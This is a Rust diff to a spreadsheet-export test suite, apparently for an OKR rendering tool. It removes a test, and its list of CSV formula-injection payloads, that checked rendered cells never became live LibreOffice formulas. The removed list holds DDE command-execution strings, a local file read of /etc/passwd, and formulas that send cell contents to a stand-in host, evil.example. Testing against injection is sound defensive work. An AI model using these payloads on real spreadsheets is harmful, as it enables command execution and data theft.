@@ -9,12 +9,11 @@ use std::path::Path;
 use std::process::Command;
 
 use libtest_mimic::Failed;
-use okr_render::DIALECTS;
 
 use crate::fods::{self, Cell};
 use crate::process;
 use crate::records;
-use crate::sample::{SAMPLES, convert, okr};
+use crate::sample::{SAMPLES, convert};
 use crate::tool::Tool;
 use crate::{Check, found, no_faults, scratch};
 
@@ -22,10 +21,10 @@ const SHEET: &[Tool] = &[Tool::LibreOffice];
 
 /// How a table is read: comma, quote, UTF-8, from the first line, no column formats, American
 /// English, quoted cells not all text, and only plain numbers and ISO dates taken for such.
-const READ: &str = "CSV:44,34,76,1,,1033,false,false";
+pub(crate) const READ: &str = "CSV:44,34,76,1,,1033,false,false";
 
 /// The same, for who ticks "detect special numbers", as Excel does for everyone.
-const READ_EAGERLY: &str = "CSV:44,34,76,1,,1033,false,true";
+pub(crate) const READ_EAGERLY: &str = "CSV:44,34,76,1,,1033,false,true";
 
 /// How a table is written: comma, quote, UTF-8, only what needs quotes in quotes, as shown.
 const WRITE: &str = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false";
@@ -56,12 +55,6 @@ pub(crate) fn checks() -> Vec<Check> {
                 )
             },
         ),
-        Check::new("spreadsheet::tables_for_platforms", SHEET, || {
-            tables_for_platforms(READ)
-        }),
-        Check::new("spreadsheet::tables_for_platforms_eagerly", SHEET, || {
-            tables_for_platforms(READ_EAGERLY)
-        }),
         Check::new("spreadsheet::saved_again", SHEET, || {
             plans_come_back("", &[(READ, WRITE)], ',')
         }),
@@ -97,137 +90,6 @@ fn cells_are_the_same(read: &str) -> Result<(), Failed> {
                 .into_iter()
                 .map(|difference| format!("{}: {difference}", sample.name)),
         );
-    }
-    no_faults(&faults)
-}
-
-/// What people have put into cells to make a spreadsheet run it.
-const PAYLOADS: &[&str] = &[
-    "=1+1",
-    "=1+2",
-    "==1",
-    "=-1",
-    "=+1",
-    "+=1",
-    "+1+1",
-    "-1+1",
-    "--1",
-    "@SUM(1+1)",
-    "@SUM(A1)",
-    "@A1",
-    "=SUM(A1:A9)",
-    "+SUM(A1:A9)",
-    "-SUM(A1:A9)",
-    "=A1&B1",
-    "=A1%",
-    "=1;=2",
-    "=1,=2",
-    "={1;2}",
-    "=TRUE()",
-    "=NOW()",
-    "=RAND()",
-    "=INFO(\"system\")",
-    "=CELL(\"filename\")",
-    "=cmd|' /C calc'!A0",
-    "+cmd|' /C calc'!A0",
-    "-cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=2+5+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!D2",
-    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
-    "='file:///etc/passwd'#$passwd.A1",
-    "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"click\")",
-    "=IMPORTXML(\"http://evil.example\",\"//a\")",
-    "=IMPORTDATA(\"http://evil.example\")",
-    "=IMPORTFEED(\"http://evil.example\")",
-    "=IMPORTHTML(\"http://evil.example\",\"table\",1)",
-    "=IMPORTRANGE(\"x\",\"A1\")",
-    "=IMAGE(\"http://evil.example/x.png\")",
-    "=WEBSERVICE(\"http://evil.example\")",
-    "=FILTERXML(\"<a/>\",\"//a\")",
-    "'=1+1",
-    "''=1+1",
-    "'+1+1",
-    "'@SUM(1)",
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(1)",
-    "\u{200b}=1+1",
-    "\u{feff}=1+1",
-    "\u{2060}=1+1",
-    "\"=1+1\"",
-    "=\"a\"\"b\"",
-    "=sum(1)|x",
-    "=MSEXCEL|'\\..\\cmd.exe /c calc'!A1",
-    "=IF(1,2,3)",
-    "=OFFSET(A1,1,1)",
-    "=INDIRECT(\"A1\")",
-];
-
-/// No text of a plan is a formula in the table of any platform, and no cell goes astray.
-fn tables_for_platforms(read: &str) -> Result<(), Failed> {
-    let folder = scratch()?;
-    let folder = folder.path();
-    let plan = |payload: &&str| {
-        // Between the code marks every sign stands for itself, and the table has the words alone.
-        let code = format!("``` {payload} ```");
-        format!(
-            "## Objective: {code}\n\n- Owner: {code}\n- [ ] {code}\n\n{code}\n\n### Key result: {code}\n\n\
-             - Owner: {code}\n- Source: {code}\n- [ ] {code}\n\n{code}\n\n"
-        )
-    };
-    fs::write(
-        folder.join("plan.md"),
-        PAYLOADS.iter().map(plan).collect::<String>(),
-    )?;
-    let written: Vec<_> = DIALECTS
-        .iter()
-        .filter(|dialect| dialect.is_written())
-        .collect();
-    for dialect in &written {
-        let target = format!("{}.csv", dialect.name);
-        let args = [
-            "render",
-            "plan.md",
-            "--dialect",
-            dialect.name,
-            "-o",
-            &target,
-        ];
-        let output = okr(folder, &args)?;
-        if !matches!(output.status.code(), Some(0 | 1)) {
-            return Err(format!("{}: {}", dialect.name, output.stderr).into());
-        }
-    }
-    office(folder, "", read, "fods", "csv", "sheets")?;
-    let mut faults = Vec::new();
-    for dialect in written {
-        let name = dialect.name;
-        let ours = fs::read_to_string(folder.join(format!("{name}.csv")))?;
-        let ours = records::read(&ours, ',');
-        let theirs = fods::read(&fs::read_to_string(
-            folder.join(format!("sheets/{name}.fods")),
-        )?);
-        let has_all = PAYLOADS.iter().all(|payload| {
-            let is_there = |cell: &fods::Cell| cell.text.contains(payload);
-            theirs.iter().flatten().any(is_there)
-        });
-        if !has_all {
-            faults.push(format!("{name}: not every text is there to be tried"));
-        }
-        if ours.len() != theirs.len() {
-            faults.push(format!(
-                "{name}: {} rows became {}",
-                ours.len(),
-                theirs.len()
-            ));
-        }
-        for (number, row) in (1..).zip(&theirs) {
-            let live = row.iter().filter(|cell| cell.is_formula);
-            faults.extend(live.map(|cell| format!("{name}: row {number}: {cell:?} is a formula")));
-        }
     }
     no_faults(&faults)
 }
